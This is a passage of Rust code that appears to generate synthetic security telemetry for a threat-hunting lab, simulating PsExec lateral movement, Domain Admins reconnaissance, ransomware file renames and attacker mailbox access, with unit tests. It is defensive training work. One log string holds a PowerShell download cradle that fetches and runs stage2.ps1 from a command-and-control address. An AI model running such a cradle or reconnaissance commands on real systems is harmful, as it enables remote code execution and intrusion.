            self.process_created(device, &cmd, &psexec);
            self.connection(
                device,
                &psexec,
                when + SECOND,
                &target_ip,
                445,
                "",
                "ConnectionSuccess",
            );
            self.logon(
                target,
                when + 2 * SECOND,
                "LogonSuccess",
                "Network",
                (admin_account, &admin_sid),
                (&ws_name, &ws_ip),
                "NTLM",
                "",
            );
            let system = self.system_proc("System", "", when - 20 * DAY);
            self.file_event(
                target,
                &system,
                when + 3 * SECOND,
                "FileCreated",
                "C:\\Windows",
                "PSEXESVC.exe",
                vec![
                    ("RequestProtocol", "SMB".into()),
                    ("RequestSourceIP", ws_ip.as_str().into()),
                    ("RequestAccountName", admin_account.into()),
                    ("RequestAccountDomain", DOMAIN.into()),
                    ("RequestAccountSid", admin_sid.as_str().into()),
                    ("ShareName", "ADMIN$".into()),
                ],
            );
            let services = self.system_proc(
                "services.exe",
                "C:\\Windows\\system32\\services.exe",
                when - 20 * DAY,
            );
            let mut service = self.system_proc(
                "PSEXESVC.exe",
                "C:\\Windows\\PSEXESVC.exe",
                when + 4 * SECOND,
            );
            service.folder = "C:\\Windows".into();
            self.process_created(target, &services, &service);
            let remote_cmd = self.system_proc(
                "cmd.exe",
                "cmd.exe /c \"net group \"Domain Admins\" /domain & whoami /all\"",
                when + 5 * SECOND,
            );
            self.process_created(target, &service, &remote_cmd);
            let net = self.system_proc(
                "net.exe",
                "net  group \"Domain Admins\" /domain",
                when + 6 * SECOND,
            );
            self.process_created(target, &remote_cmd, &net);
            self.device_event(target, &services, when + 4 * SECOND, "ServiceInstalled", vec![("AdditionalFields", Val::S(json!({"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem", "ServiceStartType": 3}).to_string())), ("FileName", "PSEXESVC.exe".into()), ("FolderPath", "C:\\Windows\\PSEXESVC.exe".into())]);
        }
        let report_id = self.rng.guid();
        self.push(
            "IdentityLogonEvents",
            vec![
                ("Timestamp", Val::T(moved + 2 * SECOND)),
                ("ActionType", "LogonSuccess".into()),
                ("Application", "Active Directory".into()),
                ("LogonType", "Resource access".into()),
                ("Protocol", "Ntlm".into()),
                ("AccountName", admin_account.into()),
                ("AccountDomain", format!("{DOMAIN}.local").into()),
                (
                    "AccountUpn",
                    format!("{admin_account}@{MAIL_DOMAIN}").into(),
                ),
                ("AccountSid", admin_sid.as_str().into()),
                ("AccountDisplayName", "Jamie Chen (admin)".into()),
                ("DeviceName", ws_name.as_str().into()),
                ("IPAddress", ws_ip.as_str().into()),
                (
                    "DestinationDeviceName",
                    self.devices[fs].name.clone().into(),
                ),
                ("DestinationIPAddress", self.devices[fs].ip.clone().into()),
                ("DestinationPort", Val::L(445)),
                ("ReportId", report_id.into()),
                (
                    "AdditionalFields",
                    Val::J(json!({"Count": 1, "Category": "Initial Access"})),
                ),
            ],
        );
        self.alert(
            moved + 5 * MINUTE,
            "da638104829310000003_1702851936",
            "Suspicious service launched (PsExec)",
            "LateralMovement",
            "Medium",
            "T1021.002, T1569.002",
            vec![
                ("Machine", "Impacted", fs, "C:\\Windows\\PSEXESVC.exe", ""),
                ("Machine", "Related", device, "", ""),
            ],
        );

        // 6. A plain-text cradle on a second workstation (someone pasted the lure's "fix").
        let second = 16; // Ravi Patel, Payroll
        let pasted = self.planted(6, 14, 2);
        let explorer2 = self.user_proc(
            second,
            "explorer.exe",
            "C:\\Windows",
            "C:\\Windows\\Explorer.EXE",
            pasted - HOUR,
            ("userinit.exe", 4412, pasted - HOUR),
        );
        let plain = format!(
            "powershell.exe -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://{c2_ip}/stage2.ps1')\""
        );
        let ps2 = self.user_proc(
            second,
            "powershell.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            &plain,
            pasted,
            ("explorer.exe", explorer2.pid, explorer2.created),
        );
        self.process_created(second, &explorer2, &ps2);
        self.connection(
            second,
            &ps2,
            pasted + 2 * SECOND,
            c2_ip,
            80,
            "",
            "ConnectionSuccess",
        );
        self.connection(
            second,
            &ps2,
            pasted + 3 * SECOND,
            c2_ip,
            443,
            "",
            "ConnectionFailed",
        );

        // 7. Mass renames on the file server: the files become *.kestrel, a ransom note appears.
        let encrypted = self.planted(3, 3, 6);
        let mut locker = self.system_proc(
            "kx.exe",
            "C:\\Windows\\Temp\\kx.exe --path D:\\Shares --ext kestrel",
            encrypted - MINUTE,
        );
        locker.folder = "C:\\Windows\\Temp".into();
        locker.account = admin_account.into();
        locker.account_sid = admin_sid.clone();
        locker.integrity = "High";
        let service = self.system_proc(
            "PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
            encrypted - 2 * MINUTE,
        );
        self.process_created(fs, &service, &locker);
        let count = 240;
        for i in 0..count {
            let share = ["Finance", "Operations", "HR", "Sales"][i % 4];
            let stem = format!(
                "{}_{}",
                [
                    "ledger", "routes", "payroll", "pipeline", "tariffs", "contract"
                ][i % 6],
                100 + i
            );
            let ext = ["xlsx", "docx", "pdf"][i % 3];
            let t = encrypted + (i as i64) * 700 * 1_000_000;
            let folder = format!("D:\\Shares\\{share}");
            let old = format!("{stem}.{ext}");
            self.file_event(
                fs,
                &locker,
                t,
                "FileRenamed",
                &folder,
                &format!("{old}.kestrel"),
                vec![
                    ("PreviousFileName", old.as_str().into()),
                    ("PreviousFolderPath", folder.as_str().into()),
                ],
            );
        }
        for share in ["Finance", "Operations", "HR", "Sales"] {
            self.file_event(
                fs,
                &locker,
                encrypted + 3 * MINUTE,
                "FileCreated",
                &format!("D:\\Shares\\{share}"),
                "README_RESTORE_FILES.txt",
                vec![],
            );
        }
        self.alert(
            encrypted + 4 * MINUTE,
            "da638104829310000004_1702851937",
            "Ransomware behavior detected in the file system",
            "Ransomware",
            "High",
            "T1486",
            vec![(
                "Machine",
                "Impacted",
                fs,
                "C:\\Windows\\Temp\\kx.exe",
                "C:\\Windows\\Temp\\kx.exe --path D:\\Shares --ext kestrel",
            )],
        );

        // The attacker reads the victim's mail from the command-and-control network.
        let report_id = self.rng.guid();
        self.push("CloudAppEvents", vec![
            ("Timestamp", Val::T(self.planted(11, 23, 50))),
            ("ActionType", "MailItemsAccessed".into()),
            ("Application", "Microsoft Exchange Online".into()),
            ("ApplicationId", Val::L(20893)),
            ("AccountObjectId", object_id.as_str().into()),
            ("AccountId", object_id.as_str().into()),
            ("AccountDisplayName", self.users[victim].name.into()),
            ("IPAddress", c2_ip.into()),
            ("IsAnonymousProxy", Val::B(true)),
            ("CountryCode", "DE".into()),
            ("Isp", "Tor exit".into()),
            ("UserAgent", "python-requests/2.31.0".into()),
            ("ActivityType", "Basic".into()),
            ("ActivityObjects", Val::J(json!([{"Type": "Mailbox", "Name": upn}]))),
            ("ObjectName", "Inbox".into()),
            ("ReportId", report_id.into()),
            ("AccountType", "Regular".into()),
            ("IsExternalUser", Val::B(false)),
            ("IsImpersonated", Val::B(false)),
            ("RawEventData", Val::J(json!({"Operation": "MailItemsAccessed", "ClientIPAddress": c2_ip, "UserId": upn}))),
        ]);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> Vec<GeneratedTable> {
        generate(&LabOptions {
            scale: 1,
            seed: 7,
            end_nanos: 1_700_000_000 * SECOND,
        })
        .unwrap()
    }

    #[test]
    fn every_schema_table_exists_with_its_columns() {
        let tables = small();
        let schema = schema_tables();
        assert_eq!(tables.len(), schema.len());
        for ((name, columns, batch), (schema_name, schema_columns)) in tables.iter().zip(&schema) {
            assert_eq!(name, schema_name);
            assert_eq!(columns, schema_columns);
            assert_eq!(batch.num_columns(), schema_columns.len());
        }
        let rows = |t: &str| {
            tables
                .iter()
                .find(|(n, _, _)| n == t)
                .map(|(_, _, b)| b.num_rows())
                .unwrap()
        };
        for table in [
            "DeviceProcessEvents",
            "DeviceNetworkEvents",
            "DeviceFileEvents",
            "DeviceRegistryEvents",
            "DeviceLogonEvents",
            "DeviceEvents",
            "DeviceInfo",
            "DeviceImageLoadEvents",
            "EmailEvents",
            "EmailAttachmentInfo",
            "EmailUrlInfo",
            "UrlClickEvents",
            "IdentityLogonEvents",
            "IdentityInfo",
            "CloudAppEvents",
            "AlertInfo",
            "AlertEvidence",
        ] {
            assert!(rows(table) > 0, "{table} is filled");
        }
        assert_eq!(rows("IdentityQueryEvents"), 0);
    }

    #[test]
    fn the_same_seed_gives_the_same_data() {
        let (a, b) = (small(), small());
        for ((_, _, x), (_, _, y)) in a.iter().zip(&b) {
            assert_eq!(x, y);
        }
    }

    #[test]
    fn timestamps_stay_inside_the_thirty_days() {
        use datafusion::arrow::array::AsArray;
        use datafusion::arrow::datatypes::Int64Type;
        let ticks = |nanos| crate::kql::time::ticks_from_unix_nanos(nanos).unwrap();
        let end = ticks(1_700_000_000 * SECOND);
        let start = ticks(1_700_000_000 * SECOND - LAB_DAYS * DAY);
        for (name, columns, batch) in small() {
            if let Some(i) = columns.iter().position(|(n, _)| n == "Timestamp") {
                let times = batch.column(i).as_primitive::<Int64Type>();
                for t in times.iter().flatten() {
                    assert!(t <= end && t >= start, "{name}: {t}");
                }
            }
        }
    }

    #[test]
    fn scale_multiplies_ordinary_activity() {
        let rows = |scale| {
            let tables = generate(&LabOptions {
                scale,
                seed: 7,
                end_nanos: 1_700_000_000 * SECOND,
            })
            .unwrap();
            tables
                .iter()
                .find(|(n, _, _)| n == "DeviceProcessEvents")
                .map(|(_, _, b)| b.num_rows())
                .unwrap()
        };
        let (one, three) = (rows(1), rows(3));
        assert!(three > one * 2, "{one} → {three}");
    }
}
